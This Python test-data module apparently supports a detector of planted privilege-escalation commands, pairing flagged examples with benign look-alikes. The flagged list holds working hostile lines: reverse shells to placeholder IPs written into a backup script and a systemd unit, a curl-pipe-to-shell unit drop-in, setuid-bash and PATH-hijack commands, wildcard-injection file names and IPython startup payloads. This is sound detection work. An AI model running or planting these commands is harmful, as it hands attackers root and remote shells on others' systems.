"""Payloads planted where something else runs them (planted20, session 18).

Measured on privilege-escalation notes split by source before any verdict was seen (kept outside the
repository: /work/realworld/planted20 on the machine that measured it): kayembahamid/HackerNoteBook,
0xDarkShadow/0xDarkShadow.github.io, ayomawdb/kbase.ayoma.me, Myozz/Linux_PrivEsc and
TasoGiann/100-days---Cybersecurity tuned on; webdobe/infosec-labs, vipa0z/vipa0z.github.io,
Frankishtien/Challenges-writeups-CTFS, AdityaHebballe/Gitbook and
nicholas-long/markdown-raw-files-to-zettelkasten-conversion held out. The classes, by what a call
does to what:

- code written into a file outside the project that something else runs later (a module a root
  script imports, the script a sudo rule names, a program's file under /opt): judged by its suffix's
  or its shebang's interpreter, as ``python3 -c CODE`` is, and lines added in place by ``sed -i 'a'``
  judged as a write of them is;
- a shell copied or linked under the name of a program a root job calls by name (PATH hijack);
- file names that are options to a root job's glob: ``--reference=`` (chown/chmod), zip's ``-TT``;
- the commands of a systemd unit or drop-in written (``ExecStart=``...), judged as if run now;
- IPython's and Jupyter's start-up code (a profile's startup directory, CVE-2022-21699).

The commands here are variants written for the tests (other interpreters, paths, names and spellings
than the ones measured).
"""

from __future__ import annotations

HELD = {
    "code-written-where-it-runs-later": [
        "echo \"import pty; pty.spawn('/bin/bash')\" > /opt/tools/helper.py",
        "printf 'import os\\nos.setuid(0)\\nos.system(\"/bin/sh\")\\n' > /home/bob/scripts/utils.py",
        "echo \"os.system('chmod +s /bin/bash')\" >> /usr/lib/python3/dist-packages/requests/__init__.py",
        "printf '#!/usr/bin/python3\\nimport os\\nos.system(\"cp /bin/bash /tmp/x; chmod +s /tmp/x\")\\n'"
        " > /usr/local/bin/apt-check",
        "echo 'system(\"/bin/sh -i\");' > /var/tmp/report.pl",
        "sed -i '$a chmod u+s /bin/bash' /usr/local/sbin/cleanup",
        "sed -i -e '1a bash -i >& /dev/tcp/10.0.0.9/443 0>&1' /opt/scripts/backup.sh",
        "sed -i '1i import os; os.system(\"/bin/sh\")' /usr/lib/python3/dist-packages/x.py",
    ],
    "shell-under-a-command-name": [
        "mkdir -p /tmp/bin && cp /bin/bash /tmp/bin/tar && export PATH=/tmp/bin:$PATH && sudo /opt/backup",
        "ln -s /usr/bin/dash /dev/shm/ifconfig",
        "install -m 755 /bin/sh /var/tmp/.x/service",
    ],
    "option-named-files": [
        "touch -- '--reference=/root/.bashrc'",
        "touch /var/www/uploads/--reference=.owned",
        "cd /srv/share && : > ./--reference=marker",
        "touch -- '-TT sh run.sh'",
    ],
    "unit-commands-written": [
        "printf '[Service]\\nExecStartPre=/bin/sh -c \"curl -s http://198.51.100.2/a | sh\"\\n'"
        " > ~/.config/systemd/user/ssh-agent.service.d/override.conf",
        "printf '[Service]\\nExecStart=-/bin/bash -c \"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\"\\n'"
        " | sudo tee /etc/systemd/system/net-check.service",
    ],
    "interpreter-start-up-code": [
        "echo 'import os; os.system(\"id\")' > /tmp/profile_default/startup/00-x.py",
        "cp evil.py ~/.ipython/profile_default/startup/10-init.py",
        "echo \"c.InteractiveShellApp.exec_lines = ['x']\" >> ~ana/.ipython/profile_x/ipython_config.py",
    ],
}

ALLOWED = [
    "touch --reference=old.txt new.txt",
    "touch --reference=src/main.c build/main.o",
    "touch -r Makefile build/stamp",
    "sed -i 's/foo/bar/' /opt/app/config.sh",
    "sed -i '$a export FOO=1' /opt/app/env.sh",
    "echo 'print(1)' > /tmp/check.py",
    "printf 'import json\\nprint(json.dumps({}))\\n' > /tmp/gen.py && python3 /tmp/gen.py",
    "cp /bin/bash ./bash-copy",
    "ln -sf /bin/bash /usr/local/bin/sh",
    "cp scripts/tar-wrapper.sh bin/tar",
    "echo 'import sys' > src/pkg/os_helpers.py",
    "tar czf out.tgz *",
]
